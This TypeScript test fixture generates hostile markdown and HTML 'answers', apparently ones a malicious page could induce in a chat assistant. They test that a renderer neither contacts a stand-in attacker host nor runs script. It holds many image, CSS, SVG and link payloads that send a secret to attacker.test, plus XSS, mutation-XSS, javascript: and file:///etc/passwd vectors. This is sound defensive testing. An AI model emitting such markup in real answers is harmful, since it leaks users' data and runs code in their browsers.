/**
 * Answers that a hostile page could cause: everything known to make a careless renderer send a request, run a script or
 * show a link that does, in every position of an answer.
 */

/** The target of the requests. Nothing in these answers may ever cause a request to it. */
export const ATTACKER = 'attacker.test';

const URL = `https://${ATTACKER}/p?d=SECRET`;

/** Content that causes a request when it is rendered. */
const REQUESTS: Record<string, string> = {
  image: `![x](${URL})`,
  'image-angle': `![x](<${URL} with space>)`,
  'image-title': `![x](${URL} "a title")`,
  'image-relative': `![x](//${ATTACKER}/p?d=SECRET)`,
  'image-entity': `![x](https&#58;//${ATTACKER}/p?d=SECRET)`,
  'image-userinfo': `![x](https://trusted.test@${ATTACKER}/p?d=SECRET)`,
  'image-subdomain': `![x](https://SECRET.${ATTACKER}/p)`,
  'image-in-link': `[![x](${URL})](https://trusted.test)`,
  'html-img': `<img src="${URL}">`,
  'html-img-unquoted': `<img src=${URL}>`,
  'html-img-upper': `<IMG SRC='${URL}'>`,
  'html-srcset': `<img srcset="${URL} 1x">`,
  'html-picture': `<picture><source srcset="${URL}"><img></picture>`,
  'html-video': `<video src="${URL}" poster="${URL}" autoplay></video>`,
  'html-audio': `<audio src="${URL}" autoplay></audio>`,
  'html-track': `<video><track default src="${URL}"></video>`,
  'html-iframe': `<iframe src="${URL}"></iframe>`,
  'html-object': `<object data="${URL}"></object>`,
  'html-embed': `<embed src="${URL}">`,
  'html-stylesheet': `<link rel="stylesheet" href="${URL}">`,
  'html-prefetch': `<link rel="prefetch" href="${URL}"><link rel="preconnect" href="https://SECRET.${ATTACKER}">`,
  'html-preload': `<link rel="modulepreload" href="${URL}">`,
  'html-style-import': `<style>@import "${URL}";</style>`,
  'html-style-url': `<style>body{background:url(${URL})}</style>`,
  'html-style-attribute': `<b style="background:url('${URL}')">x</b>`,
  'html-background': `<table background="${URL}"><td background="${URL}">x</table>`,
  'html-base': `<base href="https://${ATTACKER}/"><img src="p?d=SECRET">`,
  'html-refresh': `<meta http-equiv="refresh" content="0;url=${URL}">`,
  'html-script-src': `<script src="${URL}"></script>`,
  'html-input-image': `<input type="image" src="${URL}">`,
  'html-form': `<form action="${URL}"><button autofocus>x</button></form>`,
  'svg-image': `<svg><image href="${URL}" xlink:href="${URL}"/></svg>`,
  'svg-use': `<svg><use href="${URL}#x"/></svg>`,
  'svg-filter': `<svg><filter><feImage href="${URL}"/></filter></svg>`,
  'math-image': `$\\includegraphics{${URL}}$`,
};

/** Content that runs a script, or a link that does. */
const SCRIPTS: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'img-onerror': '<img src=x onerror=alert(1)>',
  'img-onerror-slashes': '<img/src=x/onerror=alert(1)>',
  'svg-onload': '<svg onload=alert(1)>',
  'svg-script': '<svg><script>alert(1)</script></svg>',
  'svg-animate': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'body-onload': '<body onload=alert(1)>',
  'details-ontoggle': '<details open ontoggle=alert(1)>x</details>',
  'input-onfocus': '<input autofocus onfocus=alert(1)>',
  'video-onerror': '<video><source onerror=alert(1)></video>',
  marquee: '<marquee onstart=alert(1)>x</marquee>',
  'style-animation': '<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=alert(1)>x</b>',
  'iframe-srcdoc': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'iframe-javascript': '<iframe src="javascript:parent.alert(1)"></iframe>',
  'object-data': '<object data="data:text/html,<script>alert(1)</script>"></object>',
  'link-javascript': '[x](javascript:alert(1))',
  'link-javascript-case': '[x](JaVaScRiPt:alert(1))',
  'link-javascript-entity': '[x](&#106;avascript:alert(1))',
  'link-javascript-tab': '[x](<java\tscript:alert(1)>)',
  'link-javascript-control': '[x](\u0001javascript:alert(1))',
  'link-data': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'link-vbscript': '[x](vbscript:msgbox(1))',
  'link-file': '[x](file:///etc/passwd)',
  'link-blob': '[x](blob:https://trusted.test/1)',
  'link-extension': '[x](chrome-extension://abcdefghijklmnopabcdefghijklmnop/options.html)',
  'autolink-javascript': '<javascript:alert(1)>',
  'image-javascript': '![x](javascript:alert(1))',
  'html-a-javascript': '<a href="javascript:alert(1)">x</a>',
  'html-a-ping': `<a href="https://trusted.test" ping="${URL}">x</a>`,
  'html-form-javascript': '<form action="javascript:alert(1)"><button>x</button></form>',
  'html-formaction': '<form><button formaction="javascript:alert(1)">x</button></form>',
  'math-href': '$\\href{javascript:alert(1)}{x}$',
  'math-class': '$\\class{x" onmouseover="alert(1)}{y}$',
  'mutation-math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation-noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation-svg-style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  clobbering: '<form id="x"><input name="attributes"><input name="parentNode" onfocus=alert(1) autofocus></form>',
  'attribute-break': '![" onerror="alert(1)](x)',
};

/** Whole blocks, which do not fit into any carrier. */
const BLOCKS: Record<string, string> = {
  'image-reference': `![x][r]\n\n[r]: ${URL}`,
  'image-shortcut': `![r]\n\n[r]: <${URL}> 'logo'`,
  'link-reference': '[x][r]\n\n[r]: javascript:alert(1)',
  footnote: `a[^1]\n\n[^1]: ![x](${URL})`,
  'diagram-click': '```mermaid\ngraph TD\nA-->B\nclick A "javascript:alert(1)"\n```',
  'diagram-label': '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->B\n```',
  'diagram-theme': `\`\`\`mermaid\n%%{init: {"themeCSS": "@import '${URL}'"}}%%\ngraph TD\nA-->B\n\`\`\``,
  'diagram-image': `\`\`\`mermaid\ngraph TD\nA@{ img: "${URL}", label: "x" }\n\`\`\``,
  'code-language': '```"><img src=x onerror=alert(1)>\nx\n```',
  'code-unclosed': '```html\n<img src=x onerror=alert(1)>',
  'html-comment': '<!-- --!> <img src=x onerror=alert(1)> -->',
  cdata: '<![CDATA[ ]]><img src=x onerror=alert(1)>',
  processing: '<?x ?><img src=x onerror=alert(1)>',
};

/** The positions in an answer. The content must have no effect in any of them. */
const CARRIERS: Record<string, (text: string) => string> = {
  alone: (text) => text,
  'in a sentence': (text) => `The tide **rises** ${text} twice a day.`,
  'in a list': (text) => `- one\n  - ${text}\n- two`,
  'in a quotation': (text) => `> ${text}\n>\n> said the sea.`,
  'in a table': (text) => `| a | b |\n|---|---|\n| ${text.replaceAll('|', '\\|')} | x |`,
  'in a heading': (text) => `## ${text}`,
  'in emphasis': (text) => `_so **${text}** it is_`,
  'after HTML': (text) => `<div>\n\n${text}\n\n</div>`,
};

export type HostileAnswer = { id: string; text: string; kind: 'request' | 'script' | 'block' };

/** All hostile answers, in a stable order. */
export function hostileAnswers(): HostileAnswer[] {
  const carried = (kind: 'request' | 'script', texts: Record<string, string>) =>
    Object.entries(texts).flatMap(([name, text]) =>
      Object.entries(CARRIERS).map(([carrier, put]) => ({ id: `${name} ${carrier}`, text: put(text), kind })),
    );
  const blocks = Object.entries(BLOCKS).map(([id, text]) => ({ id, text, kind: 'block' as const }));
  return [...carried('request', REQUESTS), ...carried('script', SCRIPTS), ...blocks];
}
